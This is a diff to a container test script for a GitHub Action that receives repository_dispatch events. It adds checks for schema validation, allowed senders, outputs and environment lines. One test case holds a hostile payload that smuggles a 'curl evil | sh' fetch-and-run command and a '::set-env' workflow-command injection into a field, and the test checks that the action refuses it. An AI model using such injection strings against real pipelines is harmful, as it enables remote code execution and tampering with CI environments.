@@ -12,7 +12,10 @@
 # fake on https://127.0.0.1 with a throwaway CA; run the image like the runner
 # (`--rm --workdir /github/workspace`, every value as `-e NAME` taken from the
 # environment, the /github/* mounts, GITHUB_OUTPUT and GITHUB_STEP_SUMMARY as
-# files in /github/file_commands) and check what it sent and wrote. The
+# files in /github/file_commands) and check what it sent and wrote; then run it
+# as the receiving action (receive/action.yml: its inputs and args) on the
+# event GitHub would deliver for a dispatch the fake recorded, and check its
+# outputs, its GITHUB_ENV lines and its refusals. The
 # reusable parts (installing, building, the fake, running like the runner, the
 # PASS/FAIL helpers) live in tests/container/lib.sh, shared with
 # tests/release/run.sh and bench/step.sh.
@@ -47,7 +50,8 @@ step "static binary"
 build_binary "$tmp/build"
 check "binary is a static ELF executable" python3 "$here/check.py" elf-static "$tmp/build/out/repository-dispatch"
 printf 'binary: %d bytes (%s MiB)\n' "$binary_bytes" "$(awk -v b="$binary_bytes" 'BEGIN{printf "%.2f", b/1048576}')"
-check "binary is at most 2.5 MiB" test "$binary_bytes" -le $((5 * 1024 * 1024 / 2))
+# The size budget: the image stays at most 4 MB, and the binary is all of it.
+check "binary is at most 4,000,000 bytes" test "$binary_bytes" -le 4000000
 
 # --- the image --------------------------------------------------------------------
 step "image (final stage of $root/Dockerfile, build stage = $tmp/build)"
@@ -57,7 +61,7 @@ echo "final stage built in ${build_ms} ms"
 inspect() { podman image inspect --format "$1" "$image"; }
 image_bytes=$(inspect '{{.Size}}')
 printf 'image: %d bytes (%s MiB)\n' "$image_bytes" "$(awk -v b="$image_bytes" 'BEGIN{printf "%.2f", b/1048576}')"
-check "image is at most 3 MiB" test "$image_bytes" -le $((3 * 1024 * 1024))
+check "image is at most 4,000,000 bytes" test "$image_bytes" -le 4000000
 check "image has exactly one layer (FROM scratch + one COPY)" test "$(inspect '{{len .RootFS.Layers}}')" = 1
 check "image entrypoint is [\"/repository-dispatch\"]" test "$(inspect '{{json .Config.Entrypoint}}')" = '["/repository-dispatch"]'
 check "image sets no USER" test -z "$(inspect '{{.Config.User}}')"
@@ -253,6 +257,200 @@ check "post, nothing left: prints nothing" test ! -s "$run/stdout" -a ! -s "$run
 quiet_success() { test "$rc" -eq 0 && no_new_requests "$before" && test ! -s "$run/stdout" -a ! -s "$run/stderr"; }
 run_post post-no-state
 check "post, no state: exit code 0, no request, nothing printed" quiet_success
+
+# --- the receiving action (receive/action.yml) ------------------------------------------
+# The image run as `uses: OWNER/REPO/receive@v1` runs it: receive/action.yml's
+# inputs (every one empty unless given) and its args, [receive]. The event is
+# what GitHub would deliver for the dispatch the sending action made above:
+# the fake's record of the request, in GitHub's repository_dispatch webhook
+# shape, at GITHUB_EVENT_PATH.
+receive_yml="$root/receive/action.yml"
+# The schema of the deployment request, as a receiving repository keeps it.
+# shellcheck disable=SC2016 # $schema is a JSON Schema keyword
+deploy_schema='{
+  "$schema": "https://json-schema.org/draft/2020-12/schema",
+  "type": "object",
+  "properties": {
+    "image_tag": { "type": "string", "pattern": "^sha-[0-9a-f]{7,40}$" },
+    "environment": { "enum": ["staging", "production"] }
+  },
+  "required": ["image_tag", "environment"],
+  "additionalProperties": false
+}'
+schema_path=".github/deploy-request.schema.json"
+# The App whose installation token made the dispatch: GitHub names the sender
+# `<slug>[bot]`, and senders are compared case-insensitively.
+bot="deploy-bot[bot]"
+receive_senders="release-manager,Deploy-Bot[bot]"
+
+# dispatch_as CASE EVENT_TYPE PAYLOAD EVENT_FILE: the sending action
+# dispatches; EVENT_FILE gets the event GitHub would deliver for it.
+dispatch_as() {
+    local before
+    before=$(requests_so_far)
+    run_action "$1" "INPUT_EVENT-TYPE=$2" "INPUT_CLIENT-PAYLOAD=$3"
+    check "$1: the sender exits 0" test "$rc" -eq 0
+    check "$1: the fake received exactly that dispatch" \
+        expect_dispatch "$before" "{\"event_type\":\"$2\",\"client_payload\":$(python3 "$here/check.py" minify "$3")}"
+    python3 "$here/check.py" dispatch-event "$log" "$before" \
+        --repository "$known_repo" --sender "$bot" --sender-type Bot >"$4"
+}
+# receive CASE EVENT_FILE [NAME=VALUE ...]: run the receiving action for that
+# event, the schema file in the workspace; the step's inputs are the schema
+# file, the senders, the event type and the env prefix, overridden by the
+# NAME=VALUE arguments.
+receive() {
+    local case=$1 event=$2
+    shift 2
+    receive_before=$(requests_so_far)
+    # As the runner does, every input it leaves out is passed empty.
+    action_yml="$receive_yml" empty_inputs=1 prepare_run "$case" \
+        "GITHUB_EVENT_NAME=repository_dispatch" \
+        "INPUT_SCHEMA-FILE=$schema_path" \
+        "INPUT_SENDERS=$receive_senders" \
+        "INPUT_EVENT-TYPES=trigger-deploy" \
+        "INPUT_ENV-PREFIX=DEPLOY_" \
+        "$@"
+    cp "$event" "$run/workflow/event.json"
+    mkdir -p "$run/workspace/.github"
+    printf '%s\n' "$deploy_schema" >"$run/workspace/$schema_path"
+    run_prepared "$case"
+}
+# parsed FILE: a GITHUB_OUTPUT or GITHUB_ENV file as JSON, in $run/FILE.json.
+parsed() { python3 "$here/check.py" outputs "$1" >"$1.json"; }
+# holds_exactly FILE JSON: the parsed file holds exactly these names and
+# values; `"payload": true` in JSON stands for any payload value.
+holds_exactly() {
+    python3 - "$1.json" "$2" <<'PY'
+import json, sys
+got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
+if want.get("payload") is True and "payload" in got:
+    want["payload"] = got["payload"]
+if got != want:
+    sys.exit(f"  holds {got!r}, expected {want!r}")
+PY
+}
+# payload_is JSON: the payload output is that object, as compact JSON.
+payload_is() {
+    python3 - "$outputs_file.json" "$1" "$here/check.py" <<'PY'
+import json, subprocess, sys
+payload = json.load(open(sys.argv[1])).get("payload")
+if payload is None:
+    sys.exit("  no payload output")
+if json.loads(payload) != json.loads(sys.argv[2]):
+    sys.exit(f"  payload {payload!r}, expected {sys.argv[2]!r}")
+compact = subprocess.run([sys.executable, sys.argv[3], "minify", payload], capture_output=True, text=True).stdout.rstrip("\n")
+if compact != payload:
+    sys.exit(f"  payload {payload!r} is not compact JSON")
+PY
+}
+nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
+no_request_from_receive() { no_new_requests "$receive_before"; }
+error_names() { grep -q "^::error.*$1" "$run/stdout"; }
+# No line the step printed is a workflow command other than its ::error lines:
+# a value from the payload cannot start a line of its own.
+only_error_commands() { ! grep -v '^::error' "$run/stdout" | grep -q '^::'; }
+refused() { # refused CASE EXIT: the checks every refusal must pass
+    check "$1: exit code $2" test "$rc" -eq "$2"
+    check "$1: an ::error line" has_error_line
+    check "$1: nothing written to GITHUB_OUTPUT or GITHUB_ENV" nothing_written
+    check "$1: no workflow command but ::error" only_error_commands
+    check "$1: no request to the API" no_request_from_receive
+}
+
+step "case: receive a valid deployment request (repository_dispatch)"
+deploy_payload='{"image_tag": "sha-0123abc", "environment": "staging"}'
+dispatch_as receive-send trigger-deploy "$deploy_payload" "$tmp/deploy-event.json"
+receive receive-valid "$tmp/deploy-event.json"
+check "receive: exit code 0" test "$rc" -eq 0
+check "receive: no ::error line" no_error_line
+check "receive: GITHUB_OUTPUT is in the runner's file-command format" parsed "$outputs_file"
+check "receive: the outputs are image_tag, environment and payload" \
+    holds_exactly "$outputs_file" '{"image_tag": "sha-0123abc", "environment": "staging", "payload": true}'
+check "receive: payload is the client_payload sent, as compact JSON" payload_is "$deploy_payload"
+check "receive: GITHUB_ENV is in the runner's file-command format" parsed "$env_file"
+check "receive: GITHUB_ENV holds DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT only" \
+    holds_exactly "$env_file" '{"DEPLOY_IMAGE_TAG": "sha-0123abc", "DEPLOY_ENVIRONMENT": "staging"}'
+check "receive: no request to the API" no_request_from_receive
+receive_outputs="$outputs_file.json"
+receive_env="$env_file.json"
+
+# The deploy step of examples/cd.yml as the runner runs it: its env: values
+# evaluated from the receiving step's outputs, its script unchanged, run by
+# `bash -e -o pipefail`; the values reach it only as environment variables.
+deploy_step() {
+    local script
+    local -a step
+    mapfile -d '' step < <(python3 "$here/check.py" workflow-step "$root/examples/cd.yml" deploy Deploy \
+        --outputs "request=$receive_outputs") || return 1
+    [ "${#step[@]}" -gt 0 ] || return 1
+    script="${step[-1]}"
+    unset 'step[-1]'
+    env -i PATH="$PATH" HOME="$tmp" GITHUB_STEP_SUMMARY="$tmp/deploy-summary.md" "${step[@]}" \
+        bash --noprofile --norc -e -o pipefail -c "$script" >"$tmp/deploy-step.out" 2>&1 || return 1
+    sed 's/^/   deploy| /' "$tmp/deploy-step.out"
+    grep -qF "sha-0123abc" "$tmp/deploy-step.out" && grep -qF staging "$tmp/deploy-step.out"
+}
+check "receive: examples/cd.yml's deploy step gets image_tag and environment through env:" deploy_step
+# A later step's environment holds what GITHUB_ENV set.
+later_step_env() {
+    local -a assignments
+    mapfile -t assignments < <(python3 -c 'import json,sys; [print(f"{k}={v}") for k, v in json.load(open(sys.argv[1])).items()]' "$receive_env")
+    # shellcheck disable=SC2016 # expanded by the inner shell
+    env -i PATH="$PATH" "${assignments[@]}" bash --noprofile --norc -e -c \
+        'test "$DEPLOY_IMAGE_TAG" = sha-0123abc && test "$DEPLOY_ENVIRONMENT" = staging'
+}
+check "receive: a later step sees DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT" later_step_env
+
+step "case: receive a hostile payload (shell and workflow-command injection)"
+hostile_payload='{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}'
+dispatch_as receive-send-hostile trigger-deploy "$hostile_payload" "$tmp/hostile-event.json"
+receive receive-hostile "$tmp/hostile-event.json"
+refused receive-hostile 1
+check "receive-hostile: an ::error names /image_tag" error_names /image_tag
+
+# The same valid request from other senders, event types, events and schemas.
+edit_event() { # edit_event OUT PYTHON: OUT is the valid deployment event changed by PYTHON (on `event`)
+    python3 - "$tmp/deploy-event.json" "$1" "$2" <<'PY'
+import json, sys
+event = json.load(open(sys.argv[1]))
+exec(sys.argv[3])
+json.dump(event, open(sys.argv[2], "w"))
+PY
+}
+step "case: receive from a sender not in senders"
+edit_event "$tmp/mallory-event.json" 'event["sender"].update(login="mallory", type="User")'
+receive receive-sender "$tmp/mallory-event.json"
+refused receive-sender 1
+
+step "case: receive an event type not in event-types"
+edit_event "$tmp/other-type-event.json" 'event["action"] = "trigger-teardown"'
+receive receive-event-type "$tmp/other-type-event.json"
+refused receive-event-type 1
+
+step "case: receive for an event that is neither dispatch (push)"
+receive receive-push "$tmp/deploy-event.json" "GITHUB_EVENT_NAME=push"
+refused receive-push 1
+
+step "case: receive a workflow_dispatch's inputs"
+python3 - "$tmp/workflow-event.json" "$known_repo" <<'PY'
+import json, sys
+json.dump({"inputs": {"image_tag": "sha-89abcdef", "environment": "production"}, "ref": "refs/heads/main",
+           "workflow": ".github/workflows/cd.yml", "repository": {"full_name": sys.argv[2]},
+           "sender": {"login": "release-manager", "type": "User"}}, open(sys.argv[1], "w"))
+PY
+receive receive-workflow "$tmp/workflow-event.json" "GITHUB_EVENT_NAME=workflow_dispatch" "INPUT_EVENT-TYPES="
+check "receive-workflow: exit code 0" test "$rc" -eq 0
+check "receive-workflow: GITHUB_OUTPUT is in the runner's file-command format" parsed "$outputs_file"
+check "receive-workflow: the outputs are image_tag, environment and payload" \
+    holds_exactly "$outputs_file" '{"image_tag": "sha-89abcdef", "environment": "production", "payload": true}'
+check "receive-workflow: payload is the inputs, as compact JSON" \
+    payload_is '{"image_tag": "sha-89abcdef", "environment": "production"}'
+
+step "case: a schema given inline whose pattern has a look-ahead (refused, exit 2)"
+receive receive-bad-schema "$tmp/deploy-event.json" "INPUT_SCHEMA-FILE=" \
+    'INPUT_SCHEMA={"type": "object", "properties": {"image_tag": {"type": "string", "pattern": "^(?=sha-)"}}}'
+refused receive-bad-schema 2
 
 # --- summary -----------------------------------------------------------------------
 step "summary"
